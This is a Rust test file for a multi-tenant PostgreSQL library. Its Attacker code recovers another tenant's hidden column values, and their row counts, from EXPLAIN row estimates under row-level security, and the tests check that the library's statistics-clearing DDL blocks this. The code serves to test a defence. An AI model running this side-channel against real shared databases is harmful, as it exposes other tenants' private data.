//! What the planner's statistics give away to another tenant, and
//! `#[tenant(no_statistics)]`, which keeps a column out of them.
//!
//! PostgreSQL hides the `pg_stats` rows of a table whose row-level security
//! applies to the reader, but it still plans with them: a clause whose
//! operator is leakproof (text `=`, `<>`, `<`, `>=`, `IN`, `^@`; not
//! `LIKE` or `~`) is estimated from the column's most common values and
//! histogram, every tenant's rows included, and EXPLAIN prints the
//! estimate. So the attacker of SECURITY.md, inside its own tenant
//! transaction, reads another tenant's most common value of a column out
//! of row estimates, one character at a time. The example model marks
//! `tasks.title` `#[tenant(no_statistics)]`; these tests put the column's
//! statistics back (as it would be without the attribute) to show the
//! attack, and take them away with the emitted DDL to show it fail. The
//! tenant column keeps its statistics, and gives away how many rows a
//! tenant whose id the attacker knows has in each table. What the
//! attribute costs in plans is measured by an ignored test,
//! `plan_effect_of_no_statistics`.

use serde_json::Value;
use sqlx::Executor as _;
use sqlx::postgres::{PgConnectOptions, PgPool, PgPoolOptions};
use tenant_runtime::TenantTx;
use tenant_sql::literal::quote as literal;

use crate::common::{APP_ROLE, TestDb, apply, rls_ddl};

/// Tenant B's secret: the title of most of its tasks.
const SECRET: &str = "Acquire Initech";
/// A title nobody has, of the same shape (its first 9 bytes are not the
/// secret's).
const DECOY: &str = "Acquire Hooli";
/// Rows of B titled [`SECRET`], and B's other rows (distinct titles).
const SECRET_ROWS: usize = 400;
const B_OTHER_ROWS: usize = 100;
/// Tenant A's own rows, each with a title of its own.
const A_ROWS: usize = 200;

/// A value the attacker looks for makes up at least this share of the
/// table.
const SHARE: f64 = 0.05;
/// The attacker gives up on a value longer than this.
const MAX_LEN: usize = 64;

/// A's and B's tasks, written by the owner, then `ANALYZE`.
async fn tasks_of_two_tenants(db: &TestDb) {
    let [a, b] = db.tenants;
    let sql = format!(
        "WITH pa AS (INSERT INTO projects (tenant_id, name) VALUES ('{a}', 'a') RETURNING id),
              pb AS (INSERT INTO projects (tenant_id, name) VALUES ('{b}', 'b') RETURNING id),
              ta AS (INSERT INTO tasks (tenant_id, project_id, title, done)
                     SELECT '{a}', pa.id, 'a-task-' || g, false FROM pa, generate_series(1, {A_ROWS}) g)
         INSERT INTO tasks (tenant_id, project_id, title, done)
         SELECT '{b}', pb.id, CASE WHEN g <= {SECRET_ROWS} THEN {secret} ELSE 'b-task-' || g END, false
         FROM pb, generate_series(1, {total}) g",
        secret = literal(SECRET),
        total = SECRET_ROWS + B_OTHER_ROWS,
    );
    db.owner.execute(sql.as_str()).await.unwrap();
    analyze(&db.owner).await;
}

async fn analyze(owner: &PgPool) {
    owner.execute("ANALYZE tasks").await.unwrap();
}

/// Tenant A, with nothing but its own tenant transaction and the
/// estimates EXPLAIN prints in it.
struct Attacker<'t> {
    tx: &'t mut TenantTx,
    /// The estimate of the table with no clause of the attacker's: what
    /// the policy's filter leaves.
    baseline: f64,
    explains: usize,
}

impl<'t> Attacker<'t> {
    async fn new(tx: &'t mut TenantTx) -> Attacker<'t> {
        let mut attacker = Attacker {
            tx,
            baseline: 1.0,
            explains: 0,
        };
        attacker.baseline = attacker.estimate("true").await;
        attacker.explains = 0;
        attacker
    }

    /// The planner's row estimate for the tasks matching `clause`.
    async fn estimate(&mut self, clause: &str) -> f64 {
        self.explains += 1;
        let sql = format!("EXPLAIN (FORMAT JSON) SELECT 1 FROM tasks WHERE {clause}");
        let plan: Value = sqlx::query_scalar(&sql)
            .persistent(false)
            .fetch_one(self.tx.conn())
            .await
            .unwrap_or_else(|e| panic!("{sql}: {e}"));
        plan[0]["Plan"]["Plan Rows"]
            .as_f64()
            .unwrap_or_else(|| panic!("no estimate in {plan}"))
    }

    /// The estimate says `clause` matches at least [`SHARE`] of the
    /// table. (The attacker's own titles are all distinct, so none of them
    /// is a common value; one whose own rows repeat a value would subtract
    /// them.)
    async fn common(&mut self, clause: &str) -> bool {
        self.estimate(clause).await / self.baseline >= SHARE
    }

    /// Some common title starts with `prefix` and then a byte in
    /// `from..to`. The range is compared in the "C" collation so that it
    /// is a byte range whatever the column's collation is; the estimate
    /// then comes from the most common values alone.
    async fn continues_within(&mut self, prefix: &str, from: u8, to: u8) -> bool {
        let bound = |byte: u8| literal(&format!("{prefix}{}", char::from(byte)));
        let clause = format!(
            "title COLLATE \"C\" >= {} AND title COLLATE \"C\" < {}",
            bound(from),
            bound(to)
        );
        self.common(&clause).await
    }

    /// The most common title of the other tenants, read a byte at a time
    /// (printable ASCII, by bisection), or `None` when the estimates show
    /// none.
    async fn recover(&mut self) -> Option<String> {
        const FIRST: u8 = b' ';
        const END: u8 = 0x7f;
        if !self.continues_within("", FIRST, END).await {
            return None;
        }
        let mut value = String::new();
        loop {
            if !value.is_empty() && self.common(&format!("title = {}", literal(&value))).await {
                return Some(value);
            }
            if value.len() >= MAX_LEN {
                return None;
            }
            let (mut from, mut to) = (FIRST, END);
            while to - from > 1 {
                let middle = from + (to - from) / 2;
                if self.continues_within(&value, from, middle).await {
                    to = middle;
                } else {
                    from = middle;
                }
            }
            value.push(char::from(from));
        }
    }
}

/// What tenant A gets out of the estimates, in a tenant transaction of its
/// own: the recovered value and the EXPLAINs it took.
async fn attack(db: &TestDb) -> (Option<String>, usize) {
    let [a, _] = db.tenants;
    let mut tx = db.app.begin(a).await.unwrap();
    let mut attacker = Attacker::new(&mut tx).await;
    let found = attacker.recover().await;
    let explains = attacker.explains;
    tx.rollback().await.unwrap();
    (found, explains)
}

/// `attstattarget` of tasks.title, -1 for the default.
async fn stat_target(owner: &PgPool) -> i32 {
    sqlx::query_scalar(
        "SELECT coalesce(attstattarget, -1)::int4 FROM pg_attribute \
         WHERE attrelid = 'public.tasks'::regclass AND attname = 'title'",
    )
    .fetch_one(owner)
    .await
    .unwrap()
}

/// The emitted statements for tasks.title, as `emit-rls` prints them.
fn emitted_no_statistics() -> String {
    let ddl = rls_ddl();
    let start = ddl
        .find("ALTER TABLE \"public\".\"tasks\" ALTER COLUMN \"title\" SET STATISTICS 0;")
        .expect("emit-rls sets no statistics on tasks.title");
    let end = start
        + ddl[start..]
            .find("$do$;")
            .expect("followed by the block that clears old statistics")
        + "$do$;".len();
    ddl[start..end].to_owned()
}

#[sqlx::test]
async fn another_tenants_common_value_is_read_out_of_row_estimates(
    _: PgPoolOptions,
    opts: PgConnectOptions,
) {
    let db = TestDb::new(opts.clone()).await;
    tasks_of_two_tenants(&db).await;
    let [a, _] = db.tenants;

    // As the migration leaves it: no statistics on the column, nothing to read.
    assert_eq!(stat_target(&db.owner).await, 0);
    let (found, explains) = attack(&db).await;
    assert_eq!(found, None, "with #[tenant(no_statistics)]");
    println!("with no_statistics: nothing recovered, {explains} EXPLAIN");

    // The column as it is without the attribute: the default target.
    db.owner
        .execute("ALTER TABLE tasks ALTER COLUMN title SET STATISTICS -1")
        .await
        .unwrap();
    analyze(&db.owner).await;
    // A sees none of B's rows and no statistics in pg_stats...
    let mut tx = db.app.begin(a).await.unwrap();
    let seen: i64 = sqlx::query_scalar("SELECT count(*) FROM tasks WHERE title = $1")
        .bind(SECRET)
        .fetch_one(tx.conn())
        .await
        .unwrap();
    let stats: i64 = sqlx::query_scalar("SELECT count(*) FROM pg_stats WHERE tablename = 'tasks'")
        .fetch_one(tx.conn())
        .await
        .unwrap();
    let role: String = sqlx::query_scalar("SELECT current_user::text")
        .fetch_one(tx.conn())
        .await
        .unwrap();
    tx.rollback().await.unwrap();
    assert_eq!((seen, stats, role.as_str()), (0, 0, APP_ROLE));
    // ...and reads B's title out of the estimates.
    let (found, explains) = attack(&db).await;
    assert_eq!(found.as_deref(), Some(SECRET), "without the attribute");
    assert!(
        explains <= 8 * SECRET.len() + 2,
        "{explains} EXPLAINs for {} bytes",
        SECRET.len()
    );
    println!(
        "without no_statistics: {SECRET:?} ({} bytes) recovered in {explains} EXPLAINs",
        SECRET.len()
    );

    // SET STATISTICS 0 alone is not enough: ANALYZE skips the column from
    // then on, but PostgreSQL keeps what it collected before.
    db.owner
        .execute("ALTER TABLE tasks ALTER COLUMN title SET STATISTICS 0")
        .await
        .unwrap();
    analyze(&db.owner).await;
    let (found, _) = attack(&db).await;
    assert_eq!(
        found.as_deref(),
        Some(SECRET),
        "old statistics outlive SET STATISTICS 0 and ANALYZE"
    );

    // The emitted DDL clears them, run by an owner that is not a superuser
    // (the migration role), for which pg_stats hides them too while row
    // level security is forced.
    let db_name = opts.get_database().unwrap();
    let migrator = format!(
        "tenant_rt_stats_owner_{}",
        db_name[db_name.len().saturating_sub(12)..].to_lowercase()
    );
    let original_owner: String = sqlx::query_scalar("SELECT current_user::text")
        .fetch_one(&db.owner)
        .await
        .unwrap();
    sqlx::raw_sql(&format!(
        "DROP ROLE IF EXISTS {migrator}; CREATE ROLE {migrator} NOSUPERUSER NOBYPASSRLS; \
         ALTER TABLE tasks OWNER TO {migrator}"
    ))
    .execute(&db.owner)
    .await
    .unwrap();
    let mut migration = db.owner.begin().await.unwrap();
    migration
        .execute(format!("SET LOCAL ROLE {migrator}").as_str())
        .await
        .unwrap();
    let hidden: i64 = sqlx::query_scalar(
        "SELECT count(*) FROM pg_stats WHERE tablename = 'tasks' AND attname = 'title'",
    )
    .fetch_one(&mut *migration)
    .await
    .unwrap();
    assert_eq!(hidden, 0, "the owner of a FORCEd table does not see them");
    sqlx::raw_sql(&emitted_no_statistics())
        .execute(&mut *migration)
        .await
        .unwrap();
    migration.commit().await.unwrap();
    let forced: bool = sqlx::query_scalar(
        "SELECT relforcerowsecurity FROM pg_class WHERE oid = 'tasks'::regclass",
    )
    .fetch_one(&db.owner)
    .await
    .unwrap();
    assert!(forced, "FORCE ROW LEVEL SECURITY is back on");
    sqlx::raw_sql(&format!(
        "ALTER TABLE tasks OWNER TO {original_owner}; DROP ROLE {migrator}"
    ))
    .execute(&db.owner)
    .await
    .unwrap();
    analyze(&db.owner).await;
    let (found, explains) = attack(&db).await;
    assert_eq!(found, None, "after the emitted DDL and ANALYZE");
    println!("after the emitted DDL: nothing recovered, {explains} EXPLAIN");
    db.close().await;
}

/// The estimate of `clause` with the secret and with a value nobody has,
/// as tenant A sees them.
async fn estimates(tx: &mut TenantTx, clause: &str) -> (f64, f64) {
    let mut attacker = Attacker::new(tx).await;
    let secret = attacker
        .estimate(&clause.replace("$S", &literal(SECRET)))
        .await;
    let decoy = attacker
        .estimate(&clause.replace("$S", &literal(DECOY)))
        .await;
    (secret, decoy)
}

/// Which clauses' estimates tell B's value from one nobody has, for tenant
/// A under the policy: with the column's statistics, and after the
/// emitted DDL.
async fn telling_clauses(db: &TestDb) -> Vec<&'static str> {
    const CLAUSES: [(&str, &str); 7] = [
        ("=", "title = $S"),
        ("<>", "title <> $S"),
        ("IN", "title IN ($S, 'x')"),
        ("range", "title >= $S AND title <= $S"),
        ("^@", "title ^@ left($S, 9)"),
        ("LIKE", "title LIKE left($S, 9) || '%'"),
        ("~", "title ~ ('^' || left($S, 9))"),
    ];
    let [a, _] = db.tenants;
    let mut tx = db.app.begin(a).await.unwrap();
    let mut telling = Vec::new();
    for (name, clause) in CLAUSES {
        let (secret, decoy) = estimates(&mut tx, clause).await;
        println!(
            "{name:>8}: {secret} rows estimated for B's value, {decoy} for a value nobody has"
        );
        if secret != decoy {
            telling.push(name);
        }
    }
    tx.rollback().await.unwrap();
    telling
}

#[sqlx::test]
async fn leakproof_operators_read_the_statistics_under_row_level_security(
    _: PgPoolOptions,
    opts: PgConnectOptions,
) {
    let db = TestDb::new(opts).await;
    db.owner
        .execute("ALTER TABLE tasks ALTER COLUMN title SET STATISTICS -1")
        .await
        .unwrap();
    tasks_of_two_tenants(&db).await;
    // `left(..)` folds to a constant before estimation; the pattern
    // operators are not leakproof, so the planner estimates them without
    // the statistics.
    assert_eq!(
        telling_clauses(&db).await,
        ["=", "<>", "IN", "range", "^@"],
        "leakproof text operators estimate from the statistics"
    );
    apply(&db.owner, &rls_ddl()).await;
    analyze(&db.owner).await;
    assert_eq!(
        telling_clauses(&db).await,
        Vec::<&str>::new(),
        "no clause tells anything once the statistics are gone"
    );
    db.close().await;
}

/// What `no_statistics` does not cover: the tenant column keeps its
/// statistics (the derive refuses the attribute there), and with another
/// tenant's id in hand, EXPLAIN gives its number of rows in each table.
#[sqlx::test]
async fn the_tenant_columns_statistics_give_another_tenants_row_count(
    _: PgPoolOptions,
    opts: PgConnectOptions,
) {
    let db = TestDb::new(opts).await;
    tasks_of_two_tenants(&db).await;
    let [a, b] = db.tenants;
    let mut tx = db.app.begin(a).await.unwrap();
    let seen: i64 = sqlx::query_scalar("SELECT count(*) FROM tasks WHERE tenant_id = $1")
        .bind(b)
        .fetch_one(tx.conn())
        .await
        .unwrap();
    let mut attacker = Attacker::new(&mut tx).await;
    let estimated = attacker.estimate(&format!("tenant_id = '{b}'")).await;
    tx.rollback().await.unwrap();
    assert_eq!(seen, 0);
    assert_eq!(
        estimated,
        (SECRET_ROWS + B_OTHER_ROWS) as f64,
        "B's rows in tasks, exactly"
    );
    db.close().await;
}
